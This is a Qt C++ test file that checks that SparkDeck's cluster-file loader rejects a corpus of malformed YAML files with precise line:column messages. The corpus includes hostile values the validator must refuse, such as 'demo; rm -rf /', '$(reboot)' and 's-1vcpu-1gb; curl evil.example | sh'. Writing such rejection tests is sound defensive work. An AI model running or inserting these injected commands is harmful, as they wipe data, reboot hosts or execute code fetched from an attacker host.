// The corpus of bad cluster files: each file is refused with every problem at its exact
// line:column and with a message that says what to change. Hostile strings (shell syntax,
// newlines, unicode, binary) are reported, never executed, and never break the message line.
#include "spec/clusterfileloader.h"

#include <QDir>
#include <QtTest>

using namespace SparkDeck;

class tst_BadClusterFiles : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void eachFileReportsItsProblems_data();
    void eachFileReportsItsProblems();
    void corpusIsLargeAndFullyCovered();

private:
    static QString corpusDir() { return QStringLiteral(SPARKDECK_TEST_DATA "/clusterfiles/bad"); }
    static const std::vector<std::pair<const char *, QStringList>> &corpus();
};

const std::vector<std::pair<const char *, QStringList>> &tst_BadClusterFiles::corpus()
{
    static const std::vector<std::pair<const char *, QStringList>> files{
        {"binary-garbage.yaml",
           {"1:1: error: the file is not UTF-8 text (byte 0x89); a cluster file is YAML text"}},
        {"cloud-token-in-file.yaml",
           {"4:3: error: 'token' does not belong in a cluster file: cluster files are shared, so secrets never live in them. SparkDeck asks for passwords when it connects and keeps keys in files you name by path"}},
        {"cores-zero.yaml",
           {"3:10: error: 'workers.cores' must be between 1 and 1024, not 0"}},
        {"count-fraction.yaml",
           {"3:10: error: 'workers.count' must be a whole number, not '2.5'"}},
        {"count-huge.yaml",
           {"3:10: error: 'workers.count' must be between 0 and 1000, not 99999999999999999999999"}},
        {"count-negative.yaml",
           {"3:10: error: 'workers.count' must be between 0 and 1000, not -3"}},
        {"count-not-a-number.yaml",
           {"3:10: error: 'workers.count' must be a whole number, not 'two'"}},
        {"deep-nesting.yaml",
           {"2:10010: error: the file nests lists or mappings more than 500 levels deep; a cluster file needs 4"}},
        {"duplicate-key.yaml",
           {"4:3: error: duplicate key 'workers.count'; it is already set at line 3"}},
        {"empty.yaml",
           {"1:1: error: the file is empty; a cluster file needs at least a line such as 'name: demo'"}},
        {"enabled-not-bool.yaml",
           {"3:12: error: 'jupyter.enabled' must be true or false, not 'maybe'"}},
        {"existing-without-hosts.yaml",
           {"3:13: error: provider 'existing' needs at least one host under 'machines.hosts'"}},
        {"expires-after-seconds.yaml",
           {"4:18: error: 'machines.expires_after': '30s' is not a duration; write days, hours and minutes like 3h, 90m or 1d12h"}},
        {"expires-after-too-long.yaml",
           {"4:18: error: 'machines.expires_after': '400d' must be between 1m and 365d"}},
        {"expires-after-word.yaml",
           {"4:18: error: 'machines.expires_after': 'soon' is not a duration; write days, hours and minutes like 3h, 90m or 1d12h"}},
        {"export-relative.yaml",
           {"3:11: error: path 'srv/share' must be absolute, not '/' itself, without '..', and hold only letters, digits and . _ - + @ /"}},
        {"host-address-backticks.yaml",
           {"5:18: error: host address '`reboot`' is neither an IP address nor a host name"}},
        {"host-address-newline.yaml",
           {"5:16: error: host address '10.0.0.11\\n10.0.0.12' is neither an IP address nor a host name"}},
        {"host-key-policy-bool.yaml",
           {"5:22: error: unknown host_key_policy 'no'; expected one of: strict, accept-new, ask"}},
        {"host-listed-twice.yaml",
           {"8:7: error: host 10.0.0.12 is listed twice (first at line 6)"}},
        {"host-user-hostile.yaml",
           {"5:35: error: user 'root'; reboot; '' is not a valid login name"}},
        {"host-without-address.yaml",
           {"5:7: error: host 1 in 'machines.hosts' has no address"}},
        {"hosts-not-a-list.yaml",
           {"3:13: error: provider 'existing' needs at least one host under 'machines.hosts'",
            "4:10: error: 'machines.hosts' must be a list of hosts (lines starting with '- '), not '10.0.0.11'"}},
        {"http-distribution.yaml",
           {"3:17: error: 'http://archive.apache.org/dist/spark/spark-3.5.8/spark-3.5.8...' is plain http, which anyone on the way can tamper with; use https or a local file"}},
        {"image-archive-missing.yaml",
           {"4:18: error: image archive '/nonexistent/spark-image.tar' does not exist; make it with 'docker save -o FILE apache/spark:3.5.8' where the image is"}},
        {"image-archive-relative.yaml",
           {"4:18: error: image archive 'spark-image.tar' must be the absolute path of a file made by 'docker save', such as ~/spark-image.tar"}},
        {"image-archive-standalone.yaml",
           {"4:17: error: distribution 'spark-3.5.8-bin-hadoop3.tgz' must be an https URL or the absolute path of a local .tgz file",
            "5:18: warning: 'image_archive' is only used with 'deploy: swarm'; standalone mode installs 'distribution'"}},
        {"image-archive-typo.yaml",
           {"4:3: error: unknown key 'image_archiv' in 'spark'; did you mean 'image_archive'?"}},
        {"image-is-a-list.yaml",
           {"4:10: error: 'machines.image' must be text, not a list"}},
        {"image-with-spaces.yaml",
           {"3:10: error: image 'Apache Spark' is not a Docker image name such as apache/spark:3.5.8"}},
        {"invalid-utf8-later.yaml",
           {"3:13: error: the file is not UTF-8 text (byte 0xff); a cluster file is YAML text"}},
        {"key-is-a-list.yaml",
           {"2:1: error: a key at the top level must be a plain word, not a list"}},
        {"latin1-name.yaml",
           {"1:10: error: the file is not UTF-8 text (byte 0xe9); a cluster file is YAML text"}},
        {"local-with-hosts.yaml",
           {"5:5: error: 'machines.hosts' lists machines for provider 'existing' only; provider 'local' makes its own machines"}},
        {"memory-bad-unit.yaml",
           {"3:11: error: memory '2 gigs' is not a size; write a whole number and a unit, like 512m or 2g"}},
        {"memory-bare-number.yaml",
           {"3:11: error: memory '1024' has no unit; Spark would read it as bytes. Write it with a unit, such as 1024m"}},
        {"memory-below-one-mib.yaml",
           {"3:11: error: memory '512k' is below 1 MiB; Spark refuses to start a worker that small"}},
        {"memory-huge.yaml",
           {"3:11: error: memory '99999999999t' is far too large"}},
        {"missing-name.yaml",
           {"1:1: error: the cluster has no name; add a line such as 'name: demo'"}},
        {"more-workers-than-hosts.yaml",
           {"9:10: error: 'workers.count' is 4 but the file lists 3 hosts; standalone mode runs one worker per host (the master's host included, last). Add hosts or lower the count"}},
        {"mount-command-substitution.yaml",
           {"3:10: error: path '/srv/$(reboot)' must be absolute, not '/' itself, without '..', and hold only letters, digits and . _ - + @ /"}},
        {"mount-dot-dot.yaml",
           {"3:10: error: path '/srv/../etc' must be absolute, not '/' itself, without '..', and hold only letters, digits and . _ - + @ /"}},
        {"name-command-substitution.yaml",
           {"1:7: error: name '$(reboot)' must start with a lowercase letter and hold only lowercase letters, digits and dashes, at most 40 characters (it names services, volumes and the state folder)"}},
        {"name-is-list.yaml",
           {"1:7: error: 'name' must be text, not a list"}},
        {"name-newline.yaml",
           {"1:7: error: name 'demo\\nevil' must start with a lowercase letter and hold only lowercase letters, digits and dashes, at most 40 characters (it names services, volumes and the state folder)"}},
        {"name-shell-injection.yaml",
           {"1:7: error: name 'demo; rm -rf /' must start with a lowercase letter and hold only lowercase letters, digits and dashes, at most 40 characters (it names services, volumes and the state folder)"}},
        {"name-too-long.yaml",
           {"1:7: error: name 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' must start with a lowercase letter and hold only lowercase letters, digits and dashes, at most 40 characters (it names services, volumes and the state folder)"}},
        {"name-unicode.yaml",
           {"1:7: error: name 'démo' must start with a lowercase letter and hold only lowercase letters, digits and dashes, at most 40 characters (it names services, volumes and the state folder)"}},
        {"name-uppercase.yaml",
           {"1:7: error: name 'Demo' must start with a lowercase letter and hold only lowercase letters, digits and dashes, at most 40 characters (it names services, volumes and the state folder)"}},
        {"nul-byte.yaml",
           {"1:9: error: the file holds a NUL byte; a cluster file is YAML text, not binary data"}},
        {"password-in-file.yaml",
           {"6:5: error: 'password' does not belong in a cluster file: cluster files are shared, so secrets never live in them. SparkDeck asks for passwords when it connects and keeps keys in files you name by path"}},
        {"private-key-inline.yaml",
           {"5:15: error: 'machines.ssh.identity' holds a key, not a path; cluster files are shared, so keys never live in them. Save the key to a file and give its path"}},
        {"region-for-existing-hosts.yaml",
           {"5:11: error: 'machines.region' is for providers that create machines; provider 'existing' uses machines that exist"}},
        {"region-misspelt.yaml",
           {"4:3: error: unknown key 'regoin' in 'machines'; did you mean 'region'?"}},
        {"relative-distribution.yaml",
           {"3:17: error: distribution 'downloads/spark.tgz' must be an https URL or the absolute path of a local .tgz file"}},
        {"section-is-number.yaml",
           {"2:10: error: 'workers' must be a mapping of keys, not '3'"}},
        {"sha512-too-short.yaml",
           {"3:11: error: sha512 must be 128 hexadecimal digits, or null to fetch it from <distribution>.sha512"}},
        {"shared-folder-server-hostile.yaml",
           {"3:11: error: shared folder server 'nfs; rm -rf /' must be 'master' or a host address"}},
        {"size-shell-injection.yaml",
           {"4:9: error: size 's-1vcpu-1gb; curl evil.example | sh' must be one word of letters, digits and . _ : / ~ @ + = - (as the provider lists it), at most 1024 characters"}},
        {"spark-too-old.yaml",
           {"3:12: error: Spark 2.4.8 is too old; SparkDeck needs 3.1.0 or later (graceful worker decommission)"}},
        {"spark-version-word.yaml",
           {"3:12: error: Spark version 'latest' is not a release number such as \"3.5.8\""}},
        {"ssh-port-out-of-range.yaml",
           {"5:11: error: 'machines.ssh.port' must be between 1 and 65535, not 70000"}},
        {"syntax-bad-indentation.yaml",
           {"4:2: error: YAML syntax error: end of map not found"}},
        {"syntax-colon-in-value.yaml",
           {"4:13: error: YAML syntax error: illegal map value"}},
        {"syntax-tab-indentation.yaml",
           {"3:7: error: YAML syntax error: illegal map value"}},
        {"syntax-unclosed-flow-map.yaml",
           {"3:8: error: YAML syntax error: end of map flow not found"}},
        {"syntax-unclosed-quote.yaml",
           {"1:7: error: name 'demo workers: count: 2 ' must start with a lowercase letter and hold only lowercase letters, digits and dashes, at most 40 characters (it names services, volumes and the state folder)"}},
        {"top-level-list.yaml",
           {"1:1: error: a cluster file is a mapping of keys such as 'name:' and 'workers:', not a list"}},
        {"top-level-scalar.yaml",
           {"1:1: error: a cluster file is a mapping of keys such as 'name:' and 'workers:', not 'just some words'"}},
        {"two-masters.yaml",
           {"6:35: error: only one host can have 'role: master' (the host at line 5 has it already)"}},
        {"unknown-deploy.yaml",
           {"3:11: error: unknown deploy 'kubernetes'; expected one of: standalone, swarm"}},
        {"unknown-key-no-suggestion.yaml",
           {"2:1: error: unknown key 'colour' at the top level; expected one of: name, machines, spark, workers, shared_folder, jupyter"}},
        {"unknown-key-typo.yaml",
           {"2:1: error: unknown key 'wokrers' at the top level; did you mean 'workers'?"}},
        {"unknown-nested-key.yaml",
           {"3:3: error: unknown key 'cuont' in 'workers'; did you mean 'count'?"}},
        {"unknown-provider-typo.yaml",
           {"3:13: error: unknown provider 'virtualbx'; did you mean 'virtualbox'?"}},
        {"unknown-provider.yaml",
           {"3:13: error: unknown provider 'aws'; expected one of: existing, local, virtualbox, digitalocean, ec2, gce, openstack"}},
        {"whitespace-only.yaml",
           {"1:1: error: the file is empty; a cluster file needs at least a line such as 'name: demo'"}},
    };
    return files;
}

void tst_BadClusterFiles::eachFileReportsItsProblems_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QStringList>("expected"); // "LINE:COLUMN: severity: message", in file order
    for (const auto &[file, expected] : corpus())
        QTest::newRow(file) << QString::fromLatin1(file) << expected;
}

void tst_BadClusterFiles::eachFileReportsItsProblems()
{
    QFETCH(QString, file);
    QFETCH(QStringList, expected);

    const LoadedClusterFile loaded = ClusterFileLoader::loadFile(corpusDir() + QLatin1Char('/') + file);

    QStringList actual;
    for (const Diagnostic &diagnostic : loaded.diagnostics)
        actual << diagnostic.format(QString()).mid(1); // drop the ':' after the empty file name
    QCOMPARE(actual, expected);
    QVERIFY(!loaded.ok());
    for (const QString &line : std::as_const(actual))
        QVERIFY2(!line.contains(QLatin1Char('\n')), qPrintable(line));
}

void tst_BadClusterFiles::corpusIsLargeAndFullyCovered()
{
    const QStringList files = QDir(corpusDir()).entryList(QDir::Files, QDir::Name);
    QVERIFY2(files.size() >= 40, qPrintable(QString::number(files.size())));
    QStringList covered;
    for (const auto &entry : corpus())
        covered << QString::fromLatin1(entry.first);
    QCOMPARE(files, covered);
}

QTEST_GUILESS_MAIN(tst_BadClusterFiles)
#include "tst_badclusterfiles.moc"
